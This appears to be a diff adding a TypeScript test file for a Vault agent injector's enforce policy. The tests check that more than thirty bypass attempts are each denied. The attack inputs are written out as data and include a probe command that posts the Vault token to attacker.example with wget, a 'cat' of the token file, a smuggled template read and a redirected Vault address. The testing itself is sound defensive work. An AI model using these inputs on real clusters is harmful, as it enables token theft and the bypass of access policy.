@@ -1,0 +1,137 @@
+// Each way an app team could get around an enforce policy that pins roles,
+// secret paths, auth paths, the Vault address, the Vault namespace and the
+// agent image (issue 13, and more found while fixing it): every one is denied,
+// with the same decision and reason from the webhook, inject, explain and test.
+import t from 'tap'
+import type { JsonObject } from '../../src/engine/types.ts'
+import { everyEntryPoint } from '../helpers/entry-points.ts'
+import { agentConfigOf, annotatedPod } from '../helpers/pods.ts'
+
+const V = 'vault.hashicorp.com/'
+export const PINS = `apiVersion: vault-injector.dev/v1alpha1
+kind: InjectorPolicy
+metadata: {name: pins}
+spec:
+  rules:
+    - name: team-a
+      namespaces: {names: [team-a]}
+      allow:
+        roles: [app]
+        secretPaths: ["secret/data/team-a/**"]
+        authPaths: [auth/kubernetes]
+        vaultAddresses: ["https://vault-dr.corp.example.com:*", "https://*.vault.corp.example.com:8200"]
+        vaultNamespaces: [team-a, root]
+        agentImages: ["hashicorp/vault:*"]
+      require: {resourceLimits: true, restrictedSecurityContext: true, noTlsSkipVerify: true}
+      defaults:
+        ${V}service: https://a.vault.corp.example.com:8200
+`
+// The same pins, with both json-patch annotations allowed: the patched agents are still judged.
+export const PATCHES_ALLOWED = PINS.replace('agentImages: ["hashicorp/vault:*"]', 'agentImages: ["hashicorp/vault:*"]\n        escapeHatches: [agent-json-patch, agent-init-json-patch]')
+
+const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64')
+const patch = (ops: unknown[]): string => JSON.stringify(ops)
+const forbiddenConfig = { auto_auth: { method: { type: 'kubernetes', mount_path: 'auth/kubernetes', config: { role: 'admin', token_path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }, sink: [{ type: 'file', config: { path: '/home/vault/.vault-token' } }] }, exit_after_auth: false, pid_file: '/home/vault/.pid', vault: { address: 'https://a.vault.corp.example.com:8200' } }
+
+interface Attack {
+  name: string
+  annotations?: Record<string, string>
+  spec?: Record<string, unknown>
+  policy?: string
+  denied: RegExp
+}
+
+const SECRET = { [`${V}agent-inject-secret-db`]: 'secret/data/team-a/db' }
+const attacks: Attack[] = [
+  { name: 'json-patch replaces the agent args', annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/args/0', value: 'vault agent -config=/tmp/mine.hcl' }]) }, denied: /escape hatch agent-json-patch: .*cannot be judged: vault-agent: args differs/ },
+  { name: 'json-patch replaces VAULT_CONFIG (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'VAULT_CONFIG', value: b64(forbiddenConfig) } }]) }, denied: /Vault role "admin" is not allowed/ },
+  { name: 'json-patch replaces the image (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/image', value: 'evil.example/vault:1' }]) }, denied: /agent image "evil.example\/vault:1" \(vault-agent\) is not allowed/ },
+  { name: 'json-patch makes the agent privileged root (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/securityContext', value: { privileged: true, runAsUser: 0 } }]) }, denied: /vault-agent: the agent's securityContext must be restricted, but it runs as root \(runAsUser 0\), is privileged/ },
+  { name: 'json-patch drops the limits (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/resources', value: {} }]) }, denied: /limits must be set .*missing on vault-agent\)/ },
+  { name: 'init json-patch points VAULT_ADDR elsewhere (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-init-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'VAULT_ADDR', value: 'https://attacker.example' } }]) }, denied: /Vault address "https:\/\/attacker.example" is not allowed/ },
+  { name: 'json-patch brings env from a ConfigMap (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/envFrom', value: [{ configMapRef: { name: 'mine' } }] }]) }, denied: /cannot be judged: vault-agent: envFrom differs/ },
+  { name: 'json-patch runs a command in a probe (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/livenessProbe', value: { exec: { command: ['sh', '-c', 'wget --post-file=/home/vault/.vault-token https://attacker.example'] } } }]) }, denied: /cannot be judged: vault-agent: livenessProbe differs/ },
+  { name: 'json-patch mounts over the agent binary (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/volumeMounts/-', value: { name: 'vault-secrets', mountPath: '/bin' } }]) }, denied: /a volume is mounted at \/bin/ },
+  { name: 'agent-configmap', annotations: { [`${V}agent-configmap`]: 'my-agent-config' }, denied: /escape hatch agent-configmap/ },
+  { name: 'a raw-string template path', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret `secret/data/team-b/x` }}{{ .Data.data }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x" \(rendered to \/vault\/secrets\/x\) is not allowed/ },
+  { name: 'a path built with printf', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret (printf "secret/data/%s/x" "team-b") }}{{ end }}' }, denied: /escape hatch dynamic-templates: .*\/vault\/secrets\/x \(`secret` reads a path that is not a string literal\)/ },
+  { name: 'a path in a template variable', annotations: { [`${V}agent-inject-template-x`]: '{{ $p := "secret/data/team-b/x" }}{{ with secret $p }}{{ end }}' }, denied: /escape hatch dynamic-templates/ },
+  { name: 'the secrets list function', annotations: { [`${V}agent-inject-template-x`]: '{{ range secrets "secret/metadata/" }}{{ with secret (printf "secret/data/%s" .) }}{{ end }}{{ end }}' }, denied: /lists Vault paths with `secrets`/ },
+  { name: 'pkiCert on another PKI role', annotations: { [`${V}agent-inject-template-cert`]: '{{ with pkiCert "pki/issue/team-b" "common_name=a.example" }}{{ .Cert }}{{ end }}' }, denied: /secret path "pki\/issue\/team-b"/ },
+  { name: 'a template file', annotations: { ...SECRET, [`${V}agent-inject-template-file-db`]: '/vault/custom/db.tpl', [`${V}agent-extra-secret`]: 'templates' }, denied: /escape hatch agent-inject-template-file/ },
+  { name: 'a piped path', annotations: { [`${V}agent-inject-template-x`]: '{{ with "secret/data/team-b/x" | secret }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x"/ },
+  { name: 'a path with an escape', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret "secret/data/\\x74eam-b/x" }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x"/ },
+  { name: 'a second read smuggled into the default template', annotations: { [`${V}agent-inject-secret-x`]: 'secret/data/team-a/x" }}{{ end }}{{ with secret "secret/data/team-b/y' }, denied: /secret path "secret\/data\/team-b\/y"/ },
+  { name: 'dot segments climb out of the allowed prefix', annotations: { [`${V}agent-inject-secret-x`]: 'secret/data/team-a/../team-b/x' }, denied: /is refused: it has an empty, . or .. segment/ },
+  { name: 'userinfo in the Vault address', annotations: { ...SECRET, [`${V}service`]: 'https://vault-dr.corp.example.com:8443@attacker.example' }, denied: /Vault address .* is refused: it carries userinfo/ },
+  { name: 'a query in the Vault address', annotations: { ...SECRET, [`${V}service`]: 'https://attacker.example?.vault.corp.example.com:8200' }, denied: /is refused: it carries a query/ },
+  { name: 'another Vault namespace', annotations: { ...SECRET, [`${V}namespace`]: 'team-b' }, denied: /Vault namespace "team-b" is not allowed/ },
+  { name: 'another agent image', annotations: { ...SECRET, [`${V}agent-image`]: 'evil.example/vault:1' }, denied: /agent image "evil.example\/vault:1"/ },
+  { name: 'another auth path', annotations: { ...SECRET, [`${V}auth-path`]: 'auth/other-cluster' }, denied: /auth path "auth\/other-cluster" is not allowed/ },
+  { name: 'a root agent', annotations: { ...SECRET, [`${V}agent-run-as-user`]: '0' }, denied: /runs as root \(runAsUser 0\)/ },
+  { name: 'no securityContext', annotations: { ...SECRET, [`${V}agent-set-security-context`]: 'false' }, denied: /may run as root/ },
+  { name: 'no limits', annotations: { ...SECRET, [`${V}agent-limits-cpu`]: '' }, denied: /limits must be set/ },
+  { name: 'tls-skip-verify', annotations: { ...SECRET, [`${V}tls-skip-verify`]: 'true' }, denied: /tls-skip-verify must not be true/ },
+  { name: 'a command run inside the agent', annotations: { ...SECRET, [`${V}agent-inject-command-db`]: 'cat /home/vault/.vault-token' }, denied: /escape hatch agent-inject-command/ },
+  { name: 'the Vault token handed to the app', annotations: { ...SECRET, [`${V}agent-inject-token`]: 'true' }, denied: /escape hatch agent-inject-token/ },
+  { name: 'a listener lending the token', annotations: { ...SECRET, [`${V}agent-cache-enable`]: 'true' }, denied: /escape hatch agent-cache-enable/ },
+  { name: 'a proxy of the pod\'s choosing', annotations: { ...SECRET, [`${V}proxy-address`]: 'http://proxy.team-a.svc:3128' }, denied: /escape hatch proxy-address/ },
+  { name: 'a CA of the pod\'s choosing', annotations: { ...SECRET, [`${V}ca-cert`]: '/vault/custom/ca.crt' }, denied: /escape hatch ca-cert/ },
+  { name: 'another token to log in with', annotations: { ...SECRET, [`${V}auth-config-token-path`]: '/vault/custom/other-token' }, denied: /escape hatch auth-config: vault.hashicorp.com\/auth-config-token-path/ },
+  { name: 'hostAliases redirect the pinned host', annotations: SECRET, spec: { hostAliases: [{ ip: '192.0.2.66', hostnames: ['a.vault.corp.example.com'] }] }, denied: /escape hatch host-aliases/ },
+  { name: 'DNS of the pod\'s choosing', annotations: SECRET, spec: { dnsPolicy: 'None', dnsConfig: { nameservers: ['192.0.2.53'] } }, denied: /escape hatch dns-config/ },
+]
+
+function podFor(a: Pick<Attack, 'annotations' | 'spec'>): JsonObject {
+  return annotatedPod(a.annotations ?? {}, a.spec ?? {})
+}
+
+function agree(t: { same(a: unknown, b: unknown, m: string): void }, seen: ReturnType<typeof everyEntryPoint>, what: string): void {
+  t.same(seen.inject, seen.webhook, `${what}: inject decides as the webhook`)
+  t.same(seen.explain, seen.webhook, `${what}: explain decides as the webhook`)
+  t.same(seen.test, seen.webhook, `${what}: test decides as the webhook`)
+}
+
+t.test('the pinned policy admits a pod within its pins', async (t) => {
+  const seen = everyEntryPoint(podFor({ annotations: SECRET }), PINS)
+  t.equal(seen.webhook.decision, 'inject')
+  agree(t, seen, 'within pins')
+  const harmless = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'TZ', value: 'UTC' } }, { op: 'replace', path: '/resources/limits/memory', value: '64Mi' }]) } }), PATCHES_ALLOWED)
+  t.equal(harmless.webhook.decision, 'inject', harmless.webhook.reason || 'a harmless patch, allowed by name, passes')
+  agree(t, harmless, 'harmless patch')
+})
+
+for (const attack of attacks) {
+  t.test(`bypass: ${attack.name}`, async (t) => {
+    const seen = everyEntryPoint(podFor(attack), attack.policy ?? PINS)
+    t.equal(seen.webhook.decision, 'deny', 'denied')
+    t.match(seen.webhook.reason, attack.denied)
+    agree(t, seen, attack.name)
+  })
+}
+
+t.test('bypass: auth-config-role beside an allowed role never logs in with the forbidden role', async (t) => {
+  const seen = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}auth-config-role`]: 'admin' } }), PINS)
+  agree(t, seen, 'auth-config-role')
+  if (seen.webhook.decision === 'deny') t.match(seen.webhook.reason, /Vault role "admin" is not allowed/)
+  else {
+    t.equal(agentConfigOf(seen.patched!).auto_auth.method.config.role, 'app', 'admitted only when the agent logs in as the allowed role')
+    t.equal(agentConfigOf(seen.patched!, 'vault-agent-init').auto_auth.method.config.role, 'app')
+  }
+})
+
+t.test('bypass: a pod that claims to be injected and brings its own agent', async (t) => {
+  const pod = podFor({ annotations: { ...SECRET, [`${V}agent-inject-status`]: 'injected' } }) as any
+  pod.spec.containers.push({ name: 'vault-agent', image: 'hashicorp/vault:2.0.4', command: ['/bin/sh', '-ec'], args: ['echo ${VAULT_CONFIG?} | base64 -d > /home/vault/config.json && vault agent -config=/home/vault/config.json'], env: [{ name: 'VAULT_CONFIG', value: b64(forbiddenConfig) }], resources: { limits: { cpu: '500m', memory: '128Mi' } }, securityContext: { runAsUser: 100, runAsNonRoot: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } } })
+  const seen = everyEntryPoint(pod, PINS)
+  t.equal(seen.webhook.decision, 'deny')
+  t.match(seen.webhook.reason, /Vault role "admin" is not allowed/)
+  agree(t, seen, 'spoofed agent')
+})
+
+t.test('a pod injected before (offline, or a reinvocation) is judged on its agents and passes again', async (t) => {
+  const first = everyEntryPoint(podFor({ annotations: SECRET }), PINS)
+  const again = everyEntryPoint(first.patched!, PINS)
+  t.equal(again.webhook.decision, 'skip', again.webhook.reason || 'already injected, nothing to add')
+  agree(t, again, 'reinvocation')
+})
